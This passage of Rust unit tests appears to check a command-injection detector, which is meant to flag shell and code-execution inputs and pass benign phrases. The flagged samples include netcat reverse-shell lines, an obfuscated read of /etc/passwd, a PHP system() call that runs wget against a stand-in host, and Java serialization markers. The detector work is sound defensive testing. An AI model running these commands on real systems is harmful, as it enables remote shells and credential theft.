        for s in ["/files/rock & roll/view", "/search/Tom & Jerry/", "/api/v1/users/id", "/shop/cat/toys", "/docs/My Document.pdf", "/blog/sleep well tonight/", "/p/cat toys for kids", "/files/which one/view", "/blog/for sale (cheap)/", "/faq/if you like it/", "/for all in (the list) do it"] {
            assert!(!hit(s), "{s}");
        }
    }

    #[test]
    fn spellings_a_shell_drops() {
        for s in ["'c'url localhost", "www.google.com;c$?at+/et$?c/pas$?swd", "&&+|+dir c:/", "/bi[n]/bash", "w^h^o^a^m^i", "c\\url evil.example"] {
            assert!(hit(s), "{s}");
        }
        for s in ["I'd like that", "don't", "it's 'cat' time", "a+b+c", "C++ and C#; more later", "see [n] notes", "arr[i]"] {
            assert!(!hit(s), "{s}");
        }
    }

    #[test]
    fn prefixes_options_and_whole_commands() {
        for s in ["time curl coreruleset.org", "sudo -- id", "nohup nc -e /bin/sh 10.0.0.1 4444", "nc -lvvp 4445 -e /bin/sh &", "time; ansible-config dump\n", "time; cscli alerts list\n", "chef-vault -i secret\n"] {
            assert!(hit(s), "{s}");
        }
        for s in ["time flies like an arrow", "nice ping pong table", "sudo make me a sandwich", "Time: 10:00\nPlace: front desk", "git commit -m \"fix typo\" && git push", "npm install --save lodash"] {
            assert!(!hit(s), "{s}");
        }
    }

    #[test]
    fn code_that_runs_commands() {
        for s in ["phpinfo()", ";phpinfo()", "system('echo x')", "exec(\"id\")", "<?php system(\"wget https://e.example/x.txt\");?>", "passthru($_GET['c'])", "@{[sort { $a <=> $b } (3,2,1)]}", "$(($() 42))", "{\"test\": \"KztAAU\"}", "{\"Cs7QAF\": \"test\"}", "rO0ABXNyABFqYXZh", "aced00057372", "runtime.whileclosure", "ProcessBuilder.evil.forclosure", "java.ProcessBuilder", "java.evil.runtime"] {
            assert!(hit(s), "{s}");
        }
        for s in ["the system (as a whole)", "exec(command_line)", "os.system(command_line)", "my_system('x')", "runtime.version", "a@{b}", "$(( see", "JavaScript runtime", "ecosystem('x')"] {
            assert!(!hit(s), "{s}");
        }
    }

    #[test]
    fn english_and_code_are_not_commands() {
        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01", "for me in the morning", "if not exist, create it", "if you like it, for sure", "hello world (test)", "see the notes (more) below", "a {date} placeholder", "for all in (the list) do it", "If the item exists.", "if defined, use it", "hello", "sort by price", "Sleep Number bed", "123456", "abc-def_ghi"] {
            assert!(!hit(s), "{s}");
        }
    }
}
